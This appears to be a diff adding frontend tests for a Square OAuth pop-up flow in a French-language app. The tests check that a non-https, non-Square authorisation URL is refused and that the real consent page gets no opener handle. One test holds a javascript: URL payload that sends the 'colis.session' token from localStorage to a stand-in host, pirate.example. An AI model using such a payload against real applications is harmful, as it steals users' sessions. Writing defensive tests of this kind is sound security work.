@@ -92,6 +92,32 @@ describe('/oauth payment-provider connection', () => {
     expect(popup.close).toHaveBeenCalled();
   });
 
+  it('refuses an authorisation URL that is not Square in https: French message, the pop-up closes without going anywhere', async () => {
+    const { popup } = fakePopup();
+    server.use(
+      http.post('*/payments/oauth/initiate/:id/', () =>
+        HttpResponse.json({ success: true, authorization_url: 'javascript:opener.fetch("https://pirate.example/?"+localStorage.getItem("colis.session"))', message: 'ok' }),
+      ),
+    );
+    await openPage();
+    await userEvent.click(within(companies()).getByText('Sahel Express'));
+    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
+    expect(await screen.findByText("Adresse d'autorisation refusée : le serveur a envoyé une adresse qui ne mène pas à Square en https. Aucune page n'a été ouverte.")).toBeInTheDocument();
+    expect(popup.close).toHaveBeenCalled();
+    expect(popup.location.href).toBe('');
+  });
+
+  it("a real Square consent page gets no handle on the app's window", async () => {
+    const { popup } = fakePopup();
+    const square = 'https://connect.squareupsandbox.com/oauth2/authorize?client_id=sandbox-sq0idb-demo&state=abc';
+    server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ success: true, authorization_url: square })));
+    await openPage();
+    await userEvent.click(within(companies()).getByText('Sahel Express'));
+    await userEvent.click(await within(statusCard()).findByRole('button', { name: 'Connecter à Square' }));
+    await waitFor(() => expect(popup.location.href).toBe(square));
+    expect((popup as unknown as { opener: unknown }).opener).toBeNull();
+  });
+
   it("falls back to 'Erreur lors de l'initiation OAuth' when the server declines without a message", async () => {
     const { popup } = fakePopup();
     server.use(http.post('*/payments/oauth/initiate/:id/', () => HttpResponse.json({ success: false })));
